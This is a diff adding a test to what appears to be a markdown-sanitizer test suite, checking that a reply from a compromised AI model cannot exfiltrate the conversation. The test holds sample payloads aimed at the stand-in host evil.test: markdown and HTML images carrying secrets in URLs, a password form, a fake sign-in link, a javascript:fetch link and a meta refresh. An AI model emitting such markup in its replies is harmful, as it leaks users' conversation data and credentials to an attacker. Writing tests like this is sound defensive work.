@@ -133,6 +133,22 @@ describe('a hostile message', () => {
     );
   });
 
+  // What a compromised model would answer to carry the conversation away, or to have somebody do it.
+  test('a reply that wants to send the conversation elsewhere loads nothing and hides no address', () => {
+    const reply = [
+      '![ ](https://evil.test/log?said=my+secret)',
+      '[![](https://evil.test/p.png?said=1)](https://evil.test/?said=2)',
+      '<img src="https://evil.test/?said=3"><link rel="stylesheet" href="https://evil.test/a.css">',
+      '<form action="https://evil.test/"><input name="password"></form>',
+      '[Sign in again](https://evil.test/sign-in?from=rapport)',
+      '[your record](/privacy) [open](javascript:fetch("https://evil.test"))',
+      '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+    ].join('\n\n');
+    expect(tags(reply)).toEqual(['a', 'p']);
+    for (const [, inside] of html(reply).matchAll(/<a [^>]*>(.*?)<\/a>/g)) expect(inside).toMatch(/\(evil\.test\)$/);
+    expect(html(reply)).not.toMatch(/<[^>]*(?:\ssrc=|style=|\son|javascript:)/);
+  });
+
   test('no link inside a link', () => {
     expect(html('[a https://b.test c](https://a.test/)').match(/<a /g)).toHaveLength(1);
     expect(html('[a [b](https://b.test) c](https://a.test/)').match(/<a [^>]*>(?:(?!<\/a>).)*<a /)).toBeNull();
